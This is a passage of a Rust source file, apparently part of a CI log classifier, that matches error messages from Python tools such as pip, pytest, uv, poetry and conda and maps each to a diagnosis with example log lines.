//! Python and its tools: the interpreter's import errors, pytest, pip, uv,
//! poetry and conda. pip's `Successfully installed {dist}-{version} …` says
//! an install succeeded: ranking reads it (`rank.rs`).
//!
//! Sources: CPython (`ModuleNotFoundError: No module named '{name}'` from
//! `Python/import.c`; `can't open file '{path}': [Errno 2] …` from
//! `Modules/main.c`), pytest (`_pytest/config/argparsing.py`: `error:
//! unrecognized arguments: {args}`; `_pytest/fixtures.py`: `fixture '{name}'
//! not found`; `_pytest/main.py`: `file or directory not found: {arg}`), pip
//! (`req_file.py`: `Could not open requirements file: {error}`; resolver
//! messages `ResolutionImpossible`, `No matching distribution found for`;
//! `HTTP error {code} while getting {url}`), uv (`File not found: `{path}``,
//! `No solution found when resolving dependencies`, Python discovery's `error: No
//! interpreter found for {request} in {sources}`, `--locked`'s `error: The
//! lockfile at `{path}` needs to be updated, but `--locked` was provided.`),
//! pip's `ERROR: Package '{name}' requires a different Python: {v} not in
//! '{spec}'` (`req_install.py`'s Requires-Python check); NumPy 2's refusal of
//! an extension built against 1.x (`A module that was compiled using NumPy
//! 1.x cannot be run in` at the start of its message, `numpy/core/_multiarray_umath.py`);
//! maturin's error report (`main.rs`: `💥 maturin failed`, then one `  Caused
//! by: {error}` line per error of the chain), twine's report of an index's refusal (`twine/__main__.py`: `{class}:
//! {status} {phrase} from {url}` and the response's reason below it, under
//! rich's `ERROR` level from twine 4) and of a path or pattern naming no file (`commands/__init__.py`,
//! `_find_dists`: `InvalidDistribution: Cannot find file (or expand pattern): '{pattern}'`),
//! poetry (`Poetry could not find a pyproject.toml file in {dir} or its
//! parents`, `version solving failed`, and the `SolverProblemError` heading
//! of the exception report Poetry 1.1 prints above it), conda (`PackagesNotFoundError`, `EnvironmentFileNotFound`, and
//! `CondaError: Run 'conda init' before 'conda activate'` when the shell
//! function is not loaded; any other of conda's own exceptions, which
//! `conda/exception_handler.py` prints as `{ClassName}: {message}` at the start
//! of a line (most named `Conda…Error`; also `EnvironmentLocationNotFound`,
//! `EnvironmentNameNotFound`, `NoBaseEnvironmentError`, `UnsatisfiableError`,
//! `SpecsConfigurationConflictError` from `conda/exceptions.py`), e.g. the Terms of Service plugin's `CondaToSNonInteractiveError:
//! Terms of Service have not been accepted for the following channels` (2025),
//! except `CondaHTTPError`/`CondaSSLError`, whose status and host the network
//! entries read); libmamba's `critical libmamba {message}` (mamba 2,
//! micromamba), the level at which it stops.

use super::util::{after, command_hit, path_hit, quoted, regex};
use super::{Entry, ex, ex_after};
use crate::classify::hit::{Hit, Line};
use crate::knowledge::python::pytest::{pytest_plugin_for_fixture, pytest_plugin_for_flag};
use crate::knowledge::python::{ModuleNeed, StdlibStatus, module_need, normalize_name};
use crate::knowledge::tools::is_known_tool;
use crate::report::{Category, SubjectDetail};
use crate::subject::{display_text, is_module};

/// The id of pip's successful install line, which ranking reads.
pub const PIP_INSTALL_SUCCEEDED: &str = "python/pip-install-succeeded";

/// pip installs from PyPI or the index it was pointed at.
pub const FETCH_SUCCESSES: &[super::FetchSuccess] = &[(
    PIP_INSTALL_SUCCEEDED,
    &[
        crate::report::RateLimitService::Pypi,
        crate::report::RateLimitService::Other,
    ],
)];

pub const ENTRIES: &[Entry] = &[
    Entry {
        id: "python/windows-store-alias",
        grammar: "Python was not found; run without arguments to install from the Microsoft Store, or disable this \
                  shortcut from Settings > Manage App Execution Aliases. (Windows' App Execution Alias for `python` \
                  and `python3`, exit code 9009)",
        needles: &["Manage App Execution Aliases"],
        check: windows_store_alias,
        examples: &[ex(
            "Python was not found; run without arguments to install from the Microsoft Store, or disable this \
             shortcut from Settings > Manage App Execution Aliases.",
            Category::Unknown,
            None,
        )],
    },
    Entry {
        id: PIP_INSTALL_SUCCEEDED,
        grammar: "Successfully installed {dist}-{version} … (pip, after an install)",
        needles: &["Successfully installed "],
        check: pip_install_succeeded,
        examples: &[ex("Successfully installed numpy-2.1.3", Category::Unknown, None)],
    },
    Entry {
        id: "python/module-not-found",
        grammar: "ModuleNotFoundError: No module named '{module}' | ImportError: No module named {module} | No module \
                  named '{a.b}'; '{a}' is not a package",
        needles: &["No module named"],
        check: module_not_found,
        examples: &[
            ex(
                "E   ModuleNotFoundError: No module named 'yaml'",
                Category::MissingDependency,
                Some("PyYAML"),
            ),
            // Unknown to the table: the same name is only a guess.
            ex(
                "ModuleNotFoundError: No module named 'fancylib'",
                Category::MissingDependency,
                Some("fancylib"),
            ),
            // Standard library from Python 3.11: no distribution provides it.
            ex(
                "ModuleNotFoundError: No module named 'tomllib'",
                Category::Unknown,
                None,
            ),
            ex(
                "ModuleNotFoundError: No module named 'distutils'",
                Category::MissingDependency,
                Some("setuptools"),
            ),
            // A dotted name means its parent imported: a subpackage or a
            // version mismatch, not a missing distribution.
            ex(
                "ModuleNotFoundError: No module named 'myapp.plugins'",
                Category::Unknown,
                None,
            ),
        ],
    },
    Entry {
        id: "python/distribution-not-found",
        grammar: "pkg_resources.DistributionNotFound: The '{requirement}' distribution was not found and is required \
                  by {what} | importlib.metadata.PackageNotFoundError: No package metadata was found for {name}",
        needles: &["distribution was not found", "No package metadata was found for"],
        check: distribution_not_found,
        examples: &[ex(
            "pkg_resources.DistributionNotFound: The 'tqdm>=4.0' distribution was not found and is required by \
             the application",
            Category::MissingDependency,
            Some("tqdm"),
        )],
    },
    Entry {
        id: "python/cannot-import-name",
        grammar: "ImportError: cannot import name '{name}' from '{module}' ({path})",
        needles: &["cannot import name"],
        check: cannot_import_name,
        examples: &[ex(
            "ImportError: cannot import name 'soft_unicode' from 'markupsafe' (/venv/lib/python3.10/markupsafe/__init__.py)",
            Category::Unknown,
            None,
        )],
    },
    Entry {
        id: "python/unrecognized-arguments",
        grammar: "{prog}: error: unrecognized arguments: {args} (argparse; pytest prints it for a plugin's option \
                  when the plugin is not installed)",
        needles: &["unrecognized arguments"],
        check: unrecognized_arguments,
        examples: &[
            ex(
                "pytest: error: unrecognized arguments: --cov=src --cov-report=xml",
                Category::MissingDependency,
                Some("pytest-cov"),
            ),
            ex("mytool: error: unrecognized arguments: --fast", Category::Unknown, None),
        ],
    },
    Entry {
        id: "python/pytest-fixture-not-found",
        grammar: "fixture '{name}' not found",
        needles: &["fixture '"],
        check: fixture_not_found,
        examples: &[
            ex(
                "E       fixture 'mocker' not found",
                Category::MissingDependency,
                Some("pytest-mock"),
            ),
            ex("E       fixture 'dbsession' not found", Category::Unknown, None),
        ],
    },
    Entry {
        id: "python/pytest-async-unsupported",
        grammar: "async def functions are not natively supported.",
        needles: &["async def functions are not natively supported"],
        check: async_unsupported,
        examples: &[ex(
            "PytestUnhandledCoroutineWarning: async def functions are not natively supported and have been skipped.",
            Category::MissingDependency,
            Some("pytest-asyncio"),
        )],
    },
    Entry {
        id: "python/pytest-path-not-found",
        grammar: "ERROR: file or directory not found: {path}",
        needles: &["file or directory not found:"],
        check: pytest_path_not_found,
        examples: &[ex(
            "ERROR: file or directory not found: tests/unit",
            Category::FileNotFound,
            Some("tests/unit"),
        )],
    },
    Entry {
        id: "python/cant-open-file",
        grammar: "{python}: can't open file '{path}': [Errno 2] No such file or directory",
        needles: &["can't open file"],
        check: cant_open_file,
        examples: &[ex(
            "/usr/bin/python3: can't open file '/home/runner/work/app/app/scripts/release.py': [Errno 2] No such \
             file or directory",
            Category::FileNotFound,
            Some("scripts/release.py"),
        )],
    },
    Entry {
        id: "python/pip-requirements-file",
        grammar: "ERROR: Could not open requirements file: [Errno 2] No such file or directory: '{path}'",
        needles: &["Could not open requirements file"],
        check: requirements_file,
        examples: &[ex(
            "ERROR: Could not open requirements file: [Errno 2] No such file or directory: 'requirements-dev.txt'",
            Category::FileNotFound,
            Some("requirements-dev.txt"),
        )],
    },
    Entry {
        id: "python/uv-file-not-found",
        grammar: "error: File not found: `{path}` | error: No `pyproject.toml` found in current directory or any parent \
                  directory",
        needles: &["File not found: `", "No `pyproject.toml` found"],
        check: uv_file_not_found,
        examples: &[
            ex(
                "error: File not found: `requirements/test.txt`",
                Category::FileNotFound,
                Some("requirements/test.txt"),
            ),
            ex(
                "error: No `pyproject.toml` found in current directory or any parent directory",
                Category::FileNotFound,
                Some("pyproject.toml"),
            ),
        ],
    },
    Entry {
        id: "python/env-command-missing",
        grammar: "error: Failed to spawn: `{command}` (uv run; then `Caused by: No such file or directory (os error \
                  2)` or `Caused by: program not found`) | Command not found: {command} (poetry run)",
        needles: &["Failed to spawn: `", "Command not found: "],
        check: env_command_missing,
        examples: &[
            ex(
                "error: Failed to spawn: `pytest`",
                Category::MissingCommand,
                Some("pytest"),
            ),
            ex("Command not found: mypy", Category::MissingCommand, Some("mypy")),
            ex(
                "error: Failed to spawn: `scripts/check.py`",
                Category::FileNotFound,
                Some("scripts/check.py"),
            ),
        ],
    },
    Entry {
        id: "python/poetry-no-pyproject",
        grammar: "Poetry could not find a pyproject.toml file in {dir} or its parents",
        needles: &["could not find a pyproject.toml"],
        check: poetry_no_pyproject,
        examples: &[ex(
            "Poetry could not find a pyproject.toml file in /home/runner/work/app/app or its parents",
            Category::FileNotFound,
            Some("pyproject.toml"),
        )],
    },
    Entry {
        id: "python/conda-environment-file",
        grammar: "EnvironmentFileNotFound: '{path}' file not found",
        needles: &["EnvironmentFileNotFound"],
        check: conda_environment_file,
        examples: &[ex(
            "EnvironmentFileNotFound: '/home/runner/work/app/app/environment.yml' file not found",
            Category::FileNotFound,
            Some("environment.yml"),
        )],
    },
    Entry {
        id: "python/file-not-found-error",
        grammar: "FileNotFoundError: [Errno 2] No such file or directory: '{path}' (raised by the program at run time)",
        needles: &["FileNotFoundError"],
        check: file_not_found_error,
        examples: &[
            ex(
                "FileNotFoundError: [Errno 2] No such file or directory: 'data/fixtures.json'",
                Category::FileNotFound,
                Some("data/fixtures.json"),
            ),
            // subprocess names the program it could not start.
            ex(
                "FileNotFoundError: [Errno 2] No such file or directory: 'git'",
                Category::MissingCommand,
                Some("git"),
            ),
            ex(
                "E   FileNotFoundError: [Errno 2] No such file or directory: 'git'",
                Category::MissingCommand,
                Some("git"),
            ),
            // pytest's report of a test the error failed: the test's outcome.
            ex(
                "E   FileNotFoundError: [Errno 2] No such file or directory: 'tests/data/a.csv'",
                Category::Unknown,
                None,
            ),
            ex(
                "FAILED tests/test_load.py::test_load - FileNotFoundError: [Errno 2] No such file or directory: 'a.csv'",
                Category::Unknown,
                None,
            ),
        ],
    },
    Entry {
        id: "python/dependency-resolution",
        grammar: "ERROR: ResolutionImpossible … | ERROR: Cannot install {x} because these package versions have \
                  conflicting dependencies. | ERROR: Could not find a version that satisfies the requirement {req} | \
                  ERROR: No matching distribution found for {req} | × No solution found when resolving dependencies | \
                  version solving failed | SolverProblemError (Poetry 1.1's heading above it, alone on its line) | PackagesNotFoundError: … | ResolvePackageNotFound: | error    libmamba \
                  Could not solve for environment specs (mamba, micromamba) | LibMambaUnsatisfiableError: (conda's \
                  libmamba solver) | Unable to find a resolution for {name} (PDM, then its conflicts) | \
                  [ResolutionImpossible]: {message} (PDM's error line)",
        needles: &[
            "ResolutionImpossible",
            "conflicting dependencies",
            "Could not find a version that satisfies",
            "No matching distribution found",
            "No solution found when resolving",
            "version solving failed",
            "SolverProblemError",
            "PackagesNotFoundError",
            "ResolvePackageNotFound",
            "Could not solve for environment specs",
            "LibMambaUnsatisfiableError",
            "Unable to find a resolution for",
        ],
        check: dependency_resolution,
        examples: &[ex(
            "ERROR: No matching distribution found for torch==1.0.0",
            Category::Unknown,
            None,
        )],
    },
    Entry {
        id: "python/conda-activate-without-init",
        grammar: "CondaError: Run 'conda init' before 'conda activate' (conda's `activate` subcommand run as a program: \
                  the shell function `conda init` installs is not loaded, as in a non-login `bash -e {0}` step)",
        needles: &["before 'conda activate'"],
        check: conda_activate_without_init,
        examples: &[ex(
            "CondaError: Run 'conda init' before 'conda activate'",
            Category::Unknown,
            None,
        )],
    },
    Entry {
        id: "python/conda-error",
        grammar: "Conda{Name}Error: {message} | Conda{Name}Exception: {message} | EnvironmentLocationNotFound: … | \
                  EnvironmentNameNotFound: … | NoBaseEnvironmentError: … | UnsatisfiableError: … | \
                  SpecsConfigurationConflictError: … (conda's own exceptions, printed at the start of a line; not \
                  CondaHTTPError or CondaSSLError)",
        needles: &[
            "Conda",
            "EnvironmentLocationNotFound",
            "EnvironmentNameNotFound",
            "NoBaseEnvironmentError",
            "UnsatisfiableError",
            "SpecsConfigurationConflictError",
        ],
        check: conda_error,
        examples: &[ex(
            "CondaToSNonInteractiveError: Terms of Service have not been accepted for the following channels. Please \
             accept or remove them before proceeding:",
            Category::Unknown,
            None,
        )],
    },
    Entry {
        id: "python/libmamba-critical",
        grammar: "critical libmamba {message} (mamba 2's and micromamba's log line at the `critical` level, which ends \
                  the run; e.g. `Multiple errors occurred:` over `Download error ({curl code}) {reason} [{url}]`)",
        needles: &["critical libmamba "],
        check: libmamba_critical,
        examples: &[ex(
            "critical libmamba Multiple errors occurred:",
            Category::Unknown,
            None,
        )],
    },
    Entry {
        id: "python/msvc-required",
        grammar: "error: Microsoft Visual C++ 14.0 or greater is required. Get it with \"Microsoft C++ Build Tools\": \
                  {url} (setuptools' distutils on Windows, building a C extension)",
        needles: &["Microsoft Visual C++ 14.0 or greater is required"],
        check: msvc_required,
        examples: &[ex(
            "error: Microsoft Visual C++ 14.0 or greater is required. Get it with \"Microsoft C++ Build Tools\"",
            Category::Unknown,
            None,
        )],
    },
    Entry {
        id: "python/uv-no-interpreter",
        grammar: "error: No interpreter found for {request} in {sources} (uv's Python discovery)",
        needles: &["No interpreter found for "],
        check: uv_no_interpreter,
        examples: &[ex(
            "error: No interpreter found for Python 3.14 in virtual environments, managed installations, or search \
             path",
            Category::Unknown,
            None,
        )],
    },
    Entry {
        id: "python/externally-managed",
        grammar: "error: externally-managed-environment (PEP 668)",
        needles: &["externally-managed-environment"],
        check: externally_managed,
        examples: &[ex("error: externally-managed-environment", Category::Unknown, None)],
    },
    Entry {
        id: "python/poetry-lock-outdated",
        grammar: "pyproject.toml changed significantly since poetry.lock was last generated. Run `poetry lock \
                  [--no-update]` to fix the lock file.",
        needles: &["since poetry.lock was last generated"],
        check: poetry_lock_outdated,
        examples: &[ex(
            "pyproject.toml changed significantly since poetry.lock was last generated. Run `poetry lock` to fix \
             the lock file.",
            Category::Unknown,
            None,
        )],
    },
    Entry {
        id: "python/requires-different-python",
        grammar: "ERROR: Package '{name}' requires a different Python: {version} not in '{specifier}' (pip: the \
                  project's Requires-Python excludes the job's Python)",
        needles: &["requires a different Python"],
        check: requires_different_python,
        examples: &[ex(
            "ERROR: Package 'acme-sdk' requires a different Python: 3.8.18 not in '>=3.9'",
            Category::Unknown,
            None,
        )],
    },
    Entry {
        id: "python/numpy-abi-mismatch",
        grammar: "A module that was compiled using NumPy 1.x cannot be run in (NumPy 2's import check of an \
                  extension built against NumPy 1.x; pytest shows it under `Captured stderr`, then `ImportError: \
                  numpy.core.multiarray failed to import`)",
        needles: &["compiled using NumPy 1.x cannot be run in"],
        check: numpy_abi_mismatch,
        examples: &[ex(
            "A module that was compiled using NumPy 1.x cannot be run in",
            Category::Unknown,
            None,
        )],
    },
    Entry {
        id: "python/maturin-failed",
        grammar: "💥 maturin failed / then `  Caused by: {error}` once per error of the chain, outermost first \
                  (maturin's `main.rs`); the first one is read",
        needles: &["Caused by: "],
        check: maturin_failed,
        examples: &[ex_after(
            &["💥 maturin failed"],
            "  Caused by: Couldn't find a virtualenv or conda environment, but you need one to use this command.",
            Category::Unknown,
            None,
        )],
    },
    Entry {
        id: "python/twine-upload-refused",
        grammar: "[ERROR    ]HTTPError: {status} {phrase} from {url} then the index's reason on the next line, e.g. \
                  `File already exists (…)` (twine's `__main__.py`, `{class}: {status} {phrase} from {url}`)",
        needles: &["HTTPError: "],
        check: twine_upload_refused,
        examples: &[ex(
            "ERROR    HTTPError: 400 Bad Request from https://upload.pypi.org/legacy/",
            Category::Unknown,
            None,
        )],
    },
    Entry {
        id: "python/twine-no-distributions",
        grammar: "[ERROR    ]InvalidDistribution: Cannot find file (or expand pattern): '{pattern}' (twine's \
                  `commands/__init__.py`, `_find_dists`)",
        needles: &["Cannot find file (or expand pattern): '"],
        check: twine_no_distributions,
        examples: &[ex(
            "ERROR    InvalidDistribution: Cannot find file (or expand pattern): 'dist/*'",
            Category::FileNotFound,
            Some("dist/*"),
        )],
    },
    Entry {
        id: "python/uv-lock-outdated",
        grammar: "error: The lockfile at `{path}` needs to be updated, but `--locked` was provided. To update the \
                  lockfile, run `uv lock`.",
        needles: &["needs to be updated, but `--locked` was provided"],
        check: uv_lock_outdated,
        examples: &[ex(
            "error: The lockfile at `uv.lock` needs to be updated, but `--locked` was provided. To update the \
             lockfile, run `uv lock`.",
            Category::Unknown,
            None,
        )],
    },
    Entry {
        id: "python/pytest-test-timeout",
        grammar: "Failed: Timeout >{seconds}s (pytest-timeout)",
        needles: &["Failed: Timeout >"],
        check: pytest_test_timeout,
        examples: &[ex("E   Failed: Timeout >300.0s", Category::Unknown, None)],
    },
    Entry {
        id: "python/pytest-crash-location",
        grammar: "{path}.py[x]:{line}: {ExceptionName} (pytest's long traceback: the frame that raised, other than \
                  the exceptions `test-and-code-errors` names)",
        needles: &[".py:", ".pyx:"],
        check: pytest_crash_location,
        examples: &[ex("h5py/h5f.pyx:102: OSError", Category::Unknown, None)],
    },
    Entry {
        id: "python/test-and-code-errors",
        grammar: "FAILED {node id} - {reason} | = {n} failed[, {m} passed] in {t}s = | Interrupted: {n} errors during \
                  collection | {Error}: {message} for AssertionError, AttributeError, SyntaxError, IndentationError, \
                  NameError, TypeError, KeyError, ValueError",
        needles: &[
            "FAILED ",
            " failed",
            "errors during collection",
            "AssertionError",
            "AttributeError",
            "SyntaxError",
            "IndentationError",
            "NameError",
            "TypeError:",
            "KeyError:",
            "ValueError:",
        ],
        check: test_and_code_errors,
        examples: &[
            ex(
                "FAILED tests/test_api.py::test_create - assert 404 == 201",
                Category::Unknown,
                None,
            ),
            ex(
                "AttributeError: module 'numpy' has no attribute 'float'",
                Category::Unknown,
                None,
            ),
        ],
    },
];

fn module_not_found(line: &Line<'_>) -> Option<Hit> {
    let text = line.text;
    let c = regex!(r#"No module named (?:'([^']*)'|"([^"]*)"|‘([^’]*)’|(\S+)\s*$)"#).captures(text)?;
    // The whole quoted name is validated, so `'yaml\nimport os'` is not `yaml`.
    let raw = (1..=4).find_map(|i| c.get(i))?.as_str();
    if text.contains("is not a package") {
        return Some(Hit::blocker(format!(
            "'{}' is imported from a module that is not a package (a name clash or the project's layout).",
            display_text(raw)
        )));
    }
    if !is_module(raw) {
        return Some(
            Hit::cause(
                Category::MissingDependency,
                0.3,
                "A Python import failed, but the module name is not a plain dotted name.",
            )
            .with_untrusted(raw),
        );
    }
    let top = raw.split('.').next().unwrap_or(raw);
    if line.own_packages.iter().any(|p| *p == normalize_name(top)) {
        return Some(
            Hit::blocker(format!(
                "'{raw}' is the project's own package, and it is not importable: install the project (`pip \
                 install -e .`) or fix its package discovery. Not a missing dependency."
            ))
            .with_subject(
                raw,
                SubjectDetail::OwnPackage {
                    module: raw.to_string(),
                },
            ),
        );
    }
    match module_need(raw, line.python) {
        ModuleNeed::Stdlib(status) => {
            let mut hit = stdlib_hit(raw, status, line);
            if let StdlibStatus::AddedIn(added_in) = status {
                // Kept for mapping: the workflow may pin an older Python.
                hit.detail = SubjectDetail::NewerStdlib {
                    module: raw.to_string(),
                    added_in,
                    python: line.python,
                };
            }
            Some(hit)
        }
        ModuleNeed::Submodule => Some(Hit::blocker(format!(
            "'{raw}' is missing although its package '{top}' imports: a version mismatch of '{top}', or a \
             subpackage missing from a package (its wheel or its package list). Not a missing distribution."
        ))),
        ModuleNeed::Distribution { name, known } => {
            let requirement = crate::knowledge::python::requirement_for(raw, &name);
            let message = if known && requirement != name {
                format!(
                    "Python module '{raw}' is not installed; only {requirement} provides it (later releases of {name} \
                     no longer include it)."
                )
            } else if known {
                format!("Python module '{raw}' is not installed (distribution {name}).")
            } else {
                format!(
                    "Python module '{raw}' is not installed. No known distribution provides it; '{name}' is only \
                     the same name, and installing a package named from a log could install an unrelated one, so \
                     a person must confirm."
                )
            };
            let relayed = super::node::relay_prefix(text).is_some();
            let bounded = requirement != name;
            let mut hit = Hit::cause(Category::MissingDependency, if known { 0.9 } else { 0.7 }, message)
                .with_subject(
                    name.clone(),
                    SubjectDetail::Module {
                        module: raw.to_string(),
                        distribution: name,
                        known,
                        python: line.python,
                    },
                )
                .fixable(known && !relayed && line.build_env.is_none());
            if let Some(frontend) = line.build_env {
                hit.message.push(' ');
                hit.message
                    .push_str(&isolated_build_remedy(frontend, &requirement, bounded));
            }
            if relayed {
                // npm relays the output of an install script (node-gyp's
                // `gyp`): its Python is the one that tool found, which a `pip
                // install` step of the job need not reach.
                hit.message.push_str(
                    " The Python that failed ran inside an npm install script (node-gyp), not a Python step of \
                     the job: install the distribution for the interpreter that tool uses, or upgrade the tool \
                     (node-gyp 10 and later no longer import distutils). Not fixed automatically.",
                );
            }
            Some(hit)
        }
    }
}

fn stdlib_hit(module: &str, status: StdlibStatus, line: &Line<'_>) -> Hit {
    let running = line
        .python
        .map(|v| format!(" (the job runs Python {v})"))
        .unwrap_or_default();
    let message = match status {
        StdlibStatus::AddedIn(v) => format!(
            "'{module}' is in Python's standard library only from {v}{running}: use Python {v} or newer (or a \
             backport under its own name); no distribution provides '{module}'."
        ),
        StdlibStatus::RemovedIn { version, .. } => format!(
            "'{module}' was removed from Python's standard library in {version}{running}: upgrade the package that \
             imports it, or use an older Python."
        ),
        StdlibStatus::InterpreterBuild => format!(
            "'{module}' is part of the standard library but this interpreter was built or packaged without it (a \
             system library or a distribution package is missing)."
        ),
        StdlibStatus::Python2 => format!("'{module}' is a Python 2 module: the code needs porting to Python 3."),
        StdlibStatus::Present | StdlibStatus::NotStdlib => format!(
            "'{module}' is part of Python's standard library{running}: something shadows it or the interpreter is \
             broken."
        ),
    };
    Hit::blocker(message)
}

fn distribution_not_found(line: &Line<'_>) -> Option<Hit> {
    let text = line.text;
    let raw = if let Some(q) = after(text, "DistributionNotFound").and_then(quoted) {
        q
    } else {
        after(text, "No package metadata was found for")?
            .trim()
            .trim_end_matches('.')
    };
    // `tqdm>=4.0` → `tqdm`: the name part of the requirement.
    let name = raw
        .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
        .next()
        .unwrap_or("");
    if !crate::subject::is_distribution(name) {
        return Some(Hit::blocker(
            "A required distribution is missing, but its name is not a plain name.",
        ));
    }
    if line.own_packages.iter().any(|p| *p == normalize_name(name)) {
        return Some(Hit::blocker(format!(
            "'{name}' is the project itself, and it is not installed: install the project (`pip install .`), \
             not a dependency."
        )));
    }
    Some(
        Hit::cause(
            Category::MissingDependency,
            0.8,
            format!("The distribution '{name}' is required at run time but not installed."),
        )
        .with_subject(
            name,
            SubjectDetail::Module {
                module: name.to_string(),
                distribution: name.to_string(),
                known: true,
                python: line.python,
            },
        )
        .fixable(true),
    )
}

fn pytest_test_timeout(_: &Line<'_>) -> Option<Hit> {
    Some(Hit::blocker(
        "A test exceeded its pytest-timeout limit (a hanging test, not the job's time limit).",
    ))
}

fn cannot_import_name(_: &Line<'_>) -> Option<Hit> {
    Some(Hit::blocker(
        "An import found the module but not the name: a version mismatch between packages (or a circular import), \
         not a missing distribution.",
    ))
}

fn unrecognized_arguments(line: &Line<'_>) -> Option<Hit> {
    let text = line.text;
    let args = after(text, "unrecognized arguments:")?;
    let pytest = text.contains("pytest") || line.recent.iter().any(|l| l.contains("pytest"));
    if !pytest {
        return Some(Hit::blocker("A command was given arguments it does not know."));
    }
    let plugin = args
        .split_whitespace()
        .find_map(|a| pytest_plugin_for_flag(a).map(|d| (a, d)));
    Some(match plugin {
        Some((flag, dist)) => plugin_hit(flag, dist, 0.85),
        None => Hit::blocker("pytest was given options no known plugin provides."),
    })
}

fn plugin_hit(trigger: &str, distribution: &str, confidence: f32) -> Hit {
    Hit::cause(
        Category::MissingDependency,
        confidence,
        format!(
            "pytest plugin {distribution} is not installed ({} needs it).",
            display_text(trigger)
        ),
    )
    .with_subject(
        distribution,
        SubjectDetail::PytestPlugin {
            trigger: display_text(trigger),
            distribution: distribution.to_string(),
        },
    )
    .fixable(true)
}

fn fixture_not_found(line: &Line<'_>) -> Option<Hit> {
    let c = regex!(r"fixture '([A-Za-z_][A-Za-z0-9_]*)' not found").captures(line.text)?;
    let name = &c[1];
    Some(match pytest_plugin_for_fixture(name) {
        Some(dist) => plugin_hit(&format!("fixture '{name}'"), dist, 0.75),
        None => Hit::blocker(format!(
            "pytest fixture '{name}' is not defined (not one a known plugin provides)."
        )),
    })
}

fn async_unsupported(_: &Line<'_>) -> Option<Hit> {
    Some(plugin_hit("async def tests", "pytest-asyncio", 0.6))
}

fn pytest_path_not_found(line: &Line<'_>) -> Option<Hit> {
    let path = after(line.text, "file or directory not found:")?.trim();
    let path = path.split("::").next().unwrap_or(path);
    Some(path_hit(
        path,
        0.75,
        "pytest was given a test path that does not exist.",
    ))
}

fn cant_open_file(line: &Line<'_>) -> Option<Hit> {
    if !line.text.contains("No such file or directory") {
        return None;
    }
    let path = quoted(after(line.text, "can't open file")?)?;
    Some(path_hit(path, 0.8, "The script passed to Python does not exist."))
}

fn requirements_file(line: &Line<'_>) -> Option<Hit> {
    let path =
        after(line.text, "No such file or directory:").and_then(|r| quoted(r).or(r.split_whitespace().next()))?;
    Some(path_hit(path, 0.9, "The requirements file does not exist."))
}

fn uv_file_not_found(line: &Line<'_>) -> Option<Hit> {
    if line.text.contains("No `pyproject.toml` found") {
        return Some(path_hit(
            "pyproject.toml",
            0.75,
            "uv found no pyproject.toml for the project.",
        ));
    }
    let c = regex!(r"File not found: `([^`]+)`").captures(line.text)?;
    Some(path_hit(&c[1], 0.8, "uv was given a file that does not exist."))
}

/// `uv run X` and `poetry run X` run X from the project's environment: a
/// missing X is a package the project's dependencies lack (or an environment
/// never synced), so installing a system tool is the wrong fix.
fn env_command_missing(line: &Line<'_>) -> Option<Hit> {
    let text = line.text.trim();
    let (name, tool) = if let Some(c) = regex!(r"Failed to spawn: `([^`]+)`").captures(text) {
        (c.get(1)?.as_str(), "uv run")
    } else {
        // Poetry's own line is the whole message; zsh's lower-case
        // `command not found: x` is the shell's.
        let c = regex!(r"^Command not found: (\S+)$").captures(text)?;
        (c.get(1)?.as_str(), "poetry run")
    };
    if name.contains(['/', '\\']) || name.ends_with(".py") {
        return Some(path_hit(
            name,
            0.7,
            &format!("`{tool}` was given a script that does not exist."),
        ));
    }
    let mut hit = command_hit(name, line, 0.7);
    if hit.category == Category::MissingCommand {
        hit.fixable = false;
        hit.message = format!(
            "`{tool}` found no command '{name}' in the project's environment: add the package that provides it to \
             the project's dependencies (or sync the environment first). Not fixed by installing a system tool."
        );
    }
    Some(hit)
}

fn poetry_no_pyproject(_: &Line<'_>) -> Option<Hit> {
    Some(path_hit(
        "pyproject.toml",
        0.75,
        "Poetry found no pyproject.toml where it ran (a wrong working directory, or no checkout).",
    ))
}

fn conda_environment_file(line: &Line<'_>) -> Option<Hit> {
    let path = quoted(after(line.text, "EnvironmentFileNotFound")?)?;
    Some(path_hit(path, 0.8, "The conda environment file does not exist."))
}

fn file_not_found_error(line: &Line<'_>) -> Option<Hit> {
    let path = quoted(after(line.text, "No such file or directory:")?)?;
    // subprocess names the program it could not start, in a test as anywhere.
    if !path.contains(['/', '.', '\\']) && is_known_tool(path) {
        return Some(command_hit(path, line, 0.75));
    }
    // pytest reports an exception that failed a test with its `E` margin and
    // in its short summary (`FAILED {file}::{test} - {Exception}: …`): the
    // path is one the code under test opened, so the test's failure is the
    // outcome, for a person (never a workflow path).
    if regex!(r"^\s*(?:E\s+FileNotFoundError|(?:FAILED|ERROR) \S+\.py(?:::\S+)? - FileNotFoundError)")
        .is_match(line.text)
    {
        return Some(
            Hit::blocker(format!(
                "A test failed: the code under test could not open a file ({}).",
                crate::subject::display_text(path)
            ))
            .reports_absence(),
        );
    }
    let mut hit = path_hit(path, 0.45, "A Python program could not open a file.");
    // Raised by the program at run time: the missing file is rarely one the
    // workflow names, unless the step's own command line names it as a word
    // (`papermill notebooks/train.ipynb out.ipynb`, `python fit.py --config
    // configs/base.yaml`): then the path to fix is the workflow's.
    // The same error is raised for a file written into a directory that does
    // not exist (review91 H2: `python evaluate.py --out results/m.json`): an
    // output did not move, so the reading is a read only when the traceback's
    // last frame is not a write and the path is no output option's value.
    if !hit.fixable || !crate::knowledge::tools::script_mentions(line.script, path) {
        return Some(hit.fixable(false));
    }
    use crate::knowledge::python::written_path::{LastFrame, is_output_argument, last_frame};
    let frame = last_frame(line.recent);
    if frame == LastFrame::Writes || is_output_argument(line.script, path) {
        hit.message = format!(
            "A Python program could not write {}: a file opened for writing is created, so this error means a \
             directory on its path does not exist (an output of the step, not a file that moved); create the \
             directory first (a manual fix).",
            display_text(path)
        );
        return Some(hit.fixable(false));
    }
    if frame == LastFrame::Unseen {
        hit.message = format!(
            "{} No traceback shows whether it was read or written, so it is not fixed.",
            hit.message
        );
        return Some(hit.fixable(false));
    }
    Some(hit)
}

fn dependency_resolution(line: &Line<'_>) -> Option<Hit> {
    // Each resolver's report is read as it prints it (review80's "Python
    // resolution needles unanchored"): pip's `ERROR: ` lines, uv's `×`
    // heading, Poetry's and pub's sentence ending in `version solving
    // failed.`, conda's and mamba's error heads at the start of the line,
    // and Poetry's heading, the exception's class name alone on its line
    // (cleo's trace, `  SolverProblemError`; cleo 0.7,
    // `[SolverProblemError]`); PDM's report (`pdm/cli/utils.py`'s
    // `format_resolution_impossible`: `Unable to find a resolution for
    // {name}` on its own line, then the conflicts or `Please make sure the
    // package name is correct.`, and its error handler's
